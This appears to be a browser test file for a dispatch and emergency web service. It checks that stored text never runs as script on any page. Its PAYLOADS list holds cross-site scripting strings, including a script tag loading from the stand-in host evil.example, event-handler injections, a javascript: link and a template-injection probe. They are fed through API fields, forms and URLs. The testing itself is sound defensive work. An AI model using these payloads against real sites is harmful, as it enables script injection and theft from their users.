"""Nothing that was written in a field ever runs, whoever reads it, on whichever page."""

from typing import TYPE_CHECKING, NamedTuple
from urllib.parse import quote

from live_service import Service
from page_visits import City, Seen
from tiny_study import place

if TYPE_CHECKING:
    from playwright.sync_api import Browser

PAYLOADS = (
    "\u2028</title><script src=//evil.example/x.js></script>",
    "'\"><img src=x onerror=alert(2) onfocus=alert(3)>",
    "</textarea></template><svg onload=alert(5)>{{7*7}}",
    '<a href="javascript:alert(6)" hx-get=/admin>x</a>',
)


class Written(NamedTuple):
    """Where one text stands by now."""

    task: str
    second: str
    offer: str
    emergency: str
    alert: str

    def pages(self) -> list[str]:
        return [f"/tasks/{self.task}", f"/tasks/{self.second}", f"/duty/{self.emergency}"]


def written(service: Service, payload: str) -> Written:
    """Write a text wherever the API takes one."""
    lon, lat = place("B")
    task = service.task("office", payload[:60], task={"grid_code": "G1", "skills": []})
    (offer,) = [one for one in service.ask("r0", "GET", "/v1/offers")["offers"] if one["id"] == task["id"]]
    said = {"accept": {}, "start": {}, "finish": {"note": payload}}
    for verb, body in said.items():
        service.ask("r0", "POST", f"/v1/offers/{offer['offer_id']}/{verb}", json=body)
    second = service.task("office", f"2{payload[:59]}", task={"grid_code": payload[:40]})
    (asked,) = service.ask("r0", "GET", "/v1/offers")["offers"]
    service.ask("r0", "POST", f"/v1/offers/{asked['offer_id']}/decline", json={"reason": payload})
    drill = {"name": payload[:60], "lon": lon, "lat": lat, "drill": True, "grid_code": "G1"}
    raised = service.ask("office", "POST", "/v1/emergencies?datum=wgs84", 201, json=drill)
    alert = service.ask("r0", "GET", "/v1/alerts")["alerts"][-1]
    return Written(task["id"], second["id"], asked["offer_id"], raised["id"], alert["alert_id"])


def test_no_stored_text_runs(city: City, browser: "Browser") -> None:
    service = city.service
    service.riders("red", "A")
    all_of_them: list[Written] = []
    for payload in PAYLOADS:
        if all_of_them:
            # Of several at once a rider is called to one only.
            closed = {"reason": payload}
            path = f"/v1/emergencies/{all_of_them[-1].emergency}/close"
            service.ask("office", "POST", path, json=closed)
        all_of_them.append(written(service, payload))
    seen = Seen(browser, city.address, "desktop", lang="en")
    seen.sign_in(service.keys["office"])
    pages = ["/tasks?show=all", "/live", "/duty", "/planner", "/plans/compare?left=" + "x"]
    for path in pages + [path for one in all_of_them for path in one.pages()]:
        seen.open(path)
        assert "evil.example" not in seen.page.evaluate(
            "[...document.querySelectorAll('script,link,img,a[href]')].map(e => e.src || e.href).join(' ')"
        )
        assert seen.page.locator("main [onerror], main [onfocus], main [onload], main a[hx-get]").count() == 0
    # What was written in a form comes back in it when it is refused, as text.
    for payload in PAYLOADS:
        seen.open("/tasks/new")
        seen.page.fill("#name", payload[:50])
        seen.page.evaluate("document.querySelector('#hours').type = 'text'")
        seen.page.fill("#hours", payload[:50])
        seen.page.click("main button.main")
        seen.drawn()
        assert seen.page.input_value("#name") == payload[:50].strip()
    last = all_of_them[-1].emergency
    service.ask("office", "POST", f"/v1/emergencies/{last}/close", json={"reason": PAYLOADS[0]})
    for one, payload in zip(all_of_them, (*PAYLOADS[1:], PAYLOADS[0]), strict=True):
        seen.open(f"/duty/{one.emergency}")
        assert payload.strip()[:20] in seen.page.inner_text("main")
    seen.close()
    rider = Seen(browser, city.address, "phone", lang="en")
    rider.sign_in(service.keys["r0"])
    rider.open("/rider")
    for one in all_of_them:
        rider.open(f"/rider/offers/{one.offer}")
        rider.open(f"/rider/alerts/{one.alert}")
    rider.close()
    for one, payload in zip(all_of_them, PAYLOADS, strict=True):
        service.ask("office", "POST", f"/v1/tasks/{one.second}/withdraw", json={"reason": payload})
    admin = Seen(browser, city.address, "desktop", lang="en")
    admin.sign_in(service.keys["admin"])
    for payload in PAYLOADS:
        admin.open("/admin")
        admin.page.click("text=A new key")
        admin.page.fill("#key-name", payload)
        admin.page.fill("#detail", payload)
        admin.page.select_option("#role", "rider")
        admin.page.click("form[action='/admin/keys'] button")
        admin.page.wait_for_load_state("load")
    for path in ("/admin", "/admin/audit", "/live", "/stations?facility=" + "x", "/sign-in?next=/" + "x"):
        admin.open(path)
    # Addresses of pages may hold anything too.
    for path in ("/stations?at_lon=", "/sign-in?next=", "/tasks?after=", "/duty/", "/planner/"):
        for payload in PAYLOADS:
            admin.open(path + quote(payload, safe=""))
    admin.close()
